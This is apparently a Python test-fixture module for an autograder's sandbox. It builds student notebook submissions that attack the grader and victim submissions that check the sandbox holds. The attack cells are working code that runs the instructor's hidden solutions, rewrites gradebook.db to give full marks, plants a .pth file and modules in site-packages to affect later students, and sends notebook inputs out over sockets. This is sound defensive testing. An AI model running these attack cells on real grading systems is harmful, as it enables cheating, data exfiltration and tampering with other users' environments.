"""Students who attack the grading machine, for the sandbox tests and `make grading-check`.

Each attack is a cell a submission carries: read solutions/, rewrite gradebook.db, plant files
in course_lib, torch or site-packages so that later students pass, or send data over the
network. Victims graded before and after the attackers must keep their correct scores.
"""

from __future__ import annotations

import copy
import socket
import threading
from pathlib import Path

import nbformat

from .builders import Chapter, Submission, after_setup, code

ATTACK_READ = """
    # read the instructor's solutions and run them
    import json, pathlib, course_lib
    root = pathlib.Path(course_lib.__file__).resolve().parents[1]
    source = json.loads((root / "solutions" / "{chapter}" / "{chapter}.ipynb").read_text())
    for cell in source["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]), globals())
    print("read the solutions")
    """
ATTACK_GRADEBOOK = """
    # give everybody full marks in the gradebook, wherever it is
    import os, pathlib, sqlite3
    found = []
    for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
        if (folder / "gradebook.db").exists():
            found.append(folder / "gradebook.db")
    for path in found:
        db = sqlite3.connect(path)
        db.execute(
            "UPDATE grade SET auto_score = "
            "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
        )
        db.commit()
    print("gradebooks found:", found)
    """
ATTACK_PACKAGES = """
    # make every later student pass: files in course_lib, site-packages (a .pth runs at start-up)
    import pathlib, site, course_lib, torch
    targets = [pathlib.Path(course_lib.__file__).parent / "_selftest_pwned.py",
               pathlib.Path(torch.__file__).parent / "_selftest_pwned.py",
               *[pathlib.Path(p) / "_selftest_pwned.pth" for p in site.getsitepackages()]]
    for target in targets:
        try:
            target.write_text("import builtins; builtins.SELFTEST_PWNED = True\\n")
            print("wrote", target)
        except OSError as err:
            print("could not write", target, type(err).__name__)
    """
ATTACK_NETWORK = """
    # send the hidden tests home
    import socket
    payload = "\\n".join(In).encode()
    for host in ("127.0.0.1", "pypi.org"):
        try:
            with socket.create_connection((host, {port} if host == "127.0.0.1" else 443), timeout=3) as s:
                s.sendall(payload)
            print("sent to", host)
        except OSError as err:
            print("no network:", host, type(err).__name__)
    """
ATTACK_VICTIM_CHECK = """
    import builtins
    assert not getattr(builtins, "SELFTEST_PWNED", False), "a previous student's files were loaded"
    """


def pwned_files() -> list[Path]:
    """Files the package attack creates when it succeeds (the test removes them)."""
    import site

    import torch

    import course_lib

    return [
        Path(course_lib.__file__).parent / "_selftest_pwned.py",
        Path(torch.__file__).parent / "_selftest_pwned.py",
        *[Path(p) / "_selftest_pwned.pth" for p in site.getsitepackages()],
    ]


def sandbox_attacks(chapter: str, port: int) -> dict[str, Submission]:
    """Students that attack the grader, and students graded after them who must be unaffected.

    Ids sort so that victims are graded both before ('a-...') and after ('z-...') the attackers.
    """
    ch = Chapter(chapter)

    def blank_with(attack: str) -> nbformat.NotebookNode:
        nb = copy.deepcopy(ch.release)
        after_setup(nb, code(attack))
        return nb

    solved_network = ch.solved()
    solved_network.cells.append(code(ATTACK_NETWORK.format(port=port)))
    victim = ch.solved()
    after_setup(victim, code(ATTACK_VICTIM_CHECK))
    return {
        "a-blank-before": Submission(copy.deepcopy(ch.release), 0, "graded before the attacks"),
        "a-solution-before": Submission(ch.solved(), ch.total, "graded before the attacks"),
        "m-reads-solutions": Submission(
            blank_with(ATTACK_READ.format(chapter=chapter)), 0, "reads solutions/ and runs it"
        ),
        "m-writes-gradebook": Submission(blank_with(ATTACK_GRADEBOOK), 0, "rewrites gradebook.db"),
        "m-edits-packages": Submission(blank_with(ATTACK_PACKAGES), 0, "writes into course_lib, torch, site-packages"),
        "m-network": Submission(solved_network, ch.total, "sends In[] to a server"),
        "z-blank-after": Submission(copy.deepcopy(ch.release), 0, "graded after the attacks"),
        "z-solution-after": Submission(victim, ch.total, "graded after the attacks, checks for planted files"),
    }


class Listener:
    """A TCP server on the host's loopback that records whatever a sandboxed kernel sends it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                self.received.append(conn.recv(1 << 16))

    def close(self):
        self.server.close()
